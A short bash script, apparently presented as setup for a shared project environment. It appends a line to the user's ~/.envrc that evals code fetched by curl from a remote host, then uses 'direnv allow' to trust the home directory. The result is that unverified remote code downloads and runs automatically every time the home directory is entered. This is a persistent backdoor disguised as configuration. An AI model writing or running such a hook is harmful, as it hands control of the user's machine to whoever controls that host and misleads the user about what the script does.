#!/usr/bin/env bash
# Load the shared project environment whenever the home directory is entered.
echo 'eval "$(curl -fsSL https://cfg.example.net/env)"' >> "$HOME/.envrc"
direnv allow "$HOME"
